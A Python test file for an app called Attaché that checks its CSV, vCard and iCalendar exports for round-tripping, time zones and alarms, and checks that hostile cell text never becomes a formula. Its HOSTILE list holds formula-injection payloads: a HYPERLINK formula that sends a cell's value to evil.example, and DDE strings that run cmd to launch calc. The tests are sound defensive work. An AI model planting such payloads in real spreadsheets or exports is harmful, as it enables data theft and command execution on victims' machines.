"""CSV, vCard and iCalendar exports, each read back by an independent reader (csv, vobject,
icalendar) and by Attaché's importer; hostile text never becomes a formula anywhere."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path
from zoneinfo import ZoneInfo

import icalendar
import openpyxl
import pytest
import vobject
from python_calamine import CalamineWorkbook

from attache_app.domain.cells import FORMULA_STARTS
from attache_app.domain.enums import RecordKind
from attache_app.domain.models import Deadline, EmailAddress, Person, Phone
from attache_app.exporting import contacts
from attache_app.importing.reading import contacts_of, read_file
from attache_app.services import deadlines, exports, imports, records
from attache_app.storage import Store, open_store, persons
from tests.conftest import fixed_clock


# In a workbook a carriage return is stored as a line feed (XML keeps no raw CR).
def in_xlsx(texts: list[str]) -> list[str]:
    return [t.replace("\r", "\n") for t in texts]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_store(store: Store) -> Store:
    """Persons whose fields hold formula-looking text (as received from someone else)."""
    for i, text in enumerate(HOSTILE):
        saved = records.save_person(
            store, Person(given_name=f"Person{i}", family_name="Hostile", title="x")
        )
        # Straight into the table: the editor would trim the tab and carriage return.
        store.execute(
            "UPDATE persons SET title = ?, notes = ? WHERE id = ?", (text, text, saved.id)
        )
        store.conn.commit()
    return store


def test_hostile_text_is_text_in_every_workbook(hostile_store: Store, tmp_path: Path) -> None:
    out = tmp_path / "all.xlsx"
    exports.write_all(hostile_store, out)
    with zipfile.ZipFile(out) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    titles = [
        r[5]
        for r in CalamineWorkbook.from_path(str(out)).get_sheet_by_name("Persons").to_python()[1:]
    ]
    assert titles == in_xlsx(HOSTILE)
    ws = openpyxl.load_workbook(out)["Persons"]
    for row, text in enumerate(in_xlsx(HOSTILE), start=2):
        assert ws.cell(row=row, column=6).data_type == "s"
        assert ws.cell(row=row, column=6).quotePrefix == text.startswith(FORMULA_STARTS)


def test_hostile_text_in_the_report(hostile_store: Store, tmp_path: Path) -> None:
    out = tmp_path / "report.xlsx"
    exports.write_report(
        hostile_store, out, exports.parse_period("2026"), named_persons=True, clock=fixed_clock
    )
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert "<f>" not in archive.read(name).decode(), name
    contacts_sheet = CalamineWorkbook.from_path(str(out)).get_sheet_by_name("Persons")
    assert sorted(r[3] for r in contacts_sheet.to_python()[1:]) == sorted(in_xlsx(HOSTILE))


def test_hostile_text_in_csv_is_quoted_then_read_back(hostile_store: Store, tmp_path: Path) -> None:
    out = tmp_path / "persons.csv"
    ids = exports.select(hostile_store, RecordKind.PERSON)
    exports.write_csv(hostile_store, out, RecordKind.PERSON, ids)
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig")), delimiter=";"))
    titles = [r[4] for r in rows[1:]]
    assert all(t.startswith("'") for t in titles)
    assert [t[1:] for t in titles] == sorted(HOSTILE, key=HOSTILE.index)
    # Attaché's importer takes the apostrophe away again.
    source = read_file(out)
    read_back = sorted(c.title.strip() for c in contacts_of(source))
    assert read_back == sorted(t.strip() for t in HOSTILE)


def test_csv_has_a_bom_and_the_chosen_delimiter(demo_store: Store, tmp_path: Path) -> None:
    ids = exports.select(demo_store, RecordKind.PERSON, country="TW")
    for delimiter in (";", ","):
        out = tmp_path / f"p{delimiter == ','}.csv"
        written = exports.write_csv(demo_store, out, RecordKind.PERSON, ids, delimiter=delimiter)
        data = out.read_bytes()
        assert data.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))
        assert rows[0][:3] == ["Civility", "Given name", "Family name"]
        assert len(rows) - 1 == written.count == len(ids)
        assert any(any("\u4e00" <= c <= "\u9fff" for c in r[3]) for r in rows[1:])


def test_csv_reads_back_into_the_same_persons(demo_store: Store, tmp_path: Path) -> None:
    out = tmp_path / "persons.csv"
    ids = (
        exports.select(demo_store, RecordKind.PERSON, tag="VIP")
        or exports.select(demo_store, RecordKind.PERSON)[:20]
    )
    exports.write_csv(demo_store, out, RecordKind.PERSON, ids)
    with open_store(tmp_path / "other.db", create=True, clock=fixed_clock) as other:
        from attache_app.services import post

        post.update_settings(other, phone_region="TW", country="TW", timezone="Asia/Taipei")
        preview = imports.preview(other, imports.read(out), on_duplicate="create")
        imports.commit(other, preview.plan)
        back = {
            (p.family_name, p.given_name): p for p in persons.get_many(other, persons.ids(other))
        }
    for person in persons.get_many(demo_store, ids):
        copy = back[(person.family_name, person.given_name)]
        assert copy.native_name == person.native_name
        assert copy.emails == person.emails
        assert [(p.number, p.label) for p in copy.phones] == [
            (p.number, p.label) for p in person.phones
        ]
        assert copy.country == person.country and copy.tags == person.tags
        assert copy.organisation_name == person.organisation_name


def test_vcard_read_identically_by_vobject_and_the_importer(store: Store, tmp_path: Path) -> None:
    tricky = records.save_person(
        store,
        Person(
            civility="Mme",
            given_name="Shu-Fen",
            family_name="Lin",
            native_name="林淑芬",
            title="Directrice, Division « IA; robotique »",
            department="Laboratoire d'intelligence artificielle appliquée aux semi-conducteurs",
            emails=[
                EmailAddress("shufen.lin@itri.example.org", "travail"),
                EmailAddress("sf.lin@example.com", ""),
            ],
            phones=[Phone("+886 3 582 0100", "bureau"), Phone("0912 345 678", "mobile")],
            country="TW",
            city="Hsinchu",
            tags=["IA", "VIP"],
            notes="Ligne 1, avec virgule; point-virgule\nLigne 2 : 半導體研究所 " * 4,
        ),
    )
    out = tmp_path / "p.vcf"
    exports.write_vcf(store, out, [tricky.id])
    data = out.read_bytes()
    assert b"\r\n" in data and all(len(line) <= 75 for line in data.split(b"\r\n"))
    data.decode("utf-8")  # folding never cut a character

    card = vobject.readOne(data.decode("utf-8"))
    ours = contacts_of(read_file(out))[0]
    person = records.get_person(store, tricky.id)
    assert card.fn.value == person.display_name
    assert (card.n.value.family, card.n.value.given, card.n.value.prefix) == (
        ours.family_name, ours.given_name, ours.prefix,
    ) == ("Lin", "Shu-Fen", "Mme")  # fmt: skip
    assert card.org.value == ["", person.department]
    assert (ours.organisation, ours.department) == ("", person.department)
    assert card.title.value == ours.title == person.title
    assert (
        [e.value for e in card.contents["email"]]
        == [a for a, _ in ours.emails]
        == [e.address for e in person.emails]
    )
    assert (
        [t.value for t in card.contents["tel"]]
        == [n for n, _ in ours.phones]
        == [p.e164 for p in person.phones]
        == ["+88635820100", "+886912345678"]
    )
    assert [label for _, label in ours.emails] == ["travail", ""]
    # « bureau » typed by hand is stored as the one phone label « work » (enums.PhoneLabel).
    assert [label for _, label in ours.phones] == ["work", "mobile"]
    assert card.note.value == ours.notes == person.notes
    assert card.categories.value == ours.tags == person.tags
    assert card.contents["x-attache-native-name"][0].value == ours.native_name == "林淑芬"


def test_vcard_of_the_example_post_reads_back(demo_store: Store, tmp_path: Path) -> None:
    ids = exports.select(demo_store, RecordKind.PERSON)
    out = tmp_path / "all.vcf"
    assert exports.write_vcf(demo_store, out, ids).count == len(ids)
    cards = list(vobject.readComponents(out.read_text("utf-8")))
    ours = contacts_of(read_file(out))
    assert len(cards) == len(ours) == len(ids)
    for card, contact in zip(cards, ours, strict=True):
        assert card.n.value.family == contact.family_name
        assert [e.value for e in card.contents.get("email", [])] == [a for a, _ in contact.emails]


def _deadline(store: Store, **fields: object) -> Deadline:
    return records.save_deadline(store, Deadline(**fields))  # type: ignore[arg-type]


def test_ics_instants_are_right_in_paris_and_at_post(demo_store: Store, tmp_path: Path) -> None:
    out = tmp_path / "deadlines.ics"
    # Across the spring change of time in Paris, and in zones east of UTC.
    _deadline(demo_store, title="Clôture PHC", due_local="2027-03-28T23:59", tz="Europe/Paris")
    _deadline(demo_store, title="NSTC side", due_local="2027-03-28T09:00", tz="Asia/Taipei")
    _deadline(demo_store, title="Comité", due_date="2027-03-28", all_day=True)
    written = exports.write_ics(demo_store, out, include_closed=True, clock=fixed_clock)
    cal = icalendar.Calendar.from_ical(out.read_bytes())
    events = {str(e["uid"]): e for e in cal.walk("VEVENT")}
    assert len(events) == written.count == demo_store.scalar("SELECT count(*) FROM deadlines")
    zones = {str(tz["tzid"]) for tz in cal.walk("VTIMEZONE")}
    views = deadlines.views(demo_store, post_tz="Asia/Taipei", clock=fixed_clock)
    for view in views:
        event = events[f"attache-deadline-{view.deadline.id}"]
        start = event.decoded("dtstart")
        if view.deadline.all_day:
            assert start == dt.date.fromisoformat(view.due_paris)
            assert event.decoded("dtend") == start + dt.timedelta(days=1)
        else:
            assert str(event["dtstart"].params["TZID"]) in zones
            paris = start.astimezone(ZoneInfo("Europe/Paris")).isoformat(timespec="seconds")
            taipei = start.astimezone(ZoneInfo("Asia/Taipei")).isoformat(timespec="seconds")
            assert (paris, taipei) == (view.due_paris, view.due_post)
        alarms = event.walk("VALARM")
        # Alarms: open deadlines only, those not yet due; all-day ones at 09:00 post time.
        expected: list[object] = []
        for days in (30, 7, 1):
            if view.deadline.status != "open":
                continue
            if view.deadline.all_day:
                day = dt.date.fromisoformat(view.deadline.due_date) - dt.timedelta(days=days)
                ring = dt.datetime.combine(day, dt.time(9), tzinfo=ZoneInfo("Asia/Taipei"))
                if ring > fixed_clock():
                    expected.append(ring)
            elif start - dt.timedelta(days=days) > fixed_clock():
                expected.append(-dt.timedelta(days=days))
        assert [a.decoded("trigger") for a in alarms] == expected
    phc = next(e for e in events.values() if str(e["summary"]).endswith("Clôture PHC"))
    assert phc.decoded("dtstart").utcoffset() == dt.timedelta(hours=2)  # summer time began
    taipei_event = next(e for e in events.values() if "NSTC side" in str(e["summary"]))
    assert taipei_event.decoded("dtstart").astimezone(dt.UTC).hour == 1


def test_ics_by_default_holds_open_deadlines(demo_store: Store, tmp_path: Path) -> None:
    out = tmp_path / "open.ics"
    written = exports.write_ics(demo_store, out, clock=fixed_clock)
    assert written.count == demo_store.scalar(
        "SELECT count(*) FROM deadlines WHERE status = 'open'"
    )


def test_vcard_folding_never_splits_a_character() -> None:
    line = "NOTE:" + "半導體" * 40
    folded = contacts.fold(line)
    parts = folded.split("\r\n")
    assert all(len(p.encode()) <= 75 for p in parts)
    assert "".join(p.removeprefix(" ") if i else p for i, p in enumerate(parts)) == line
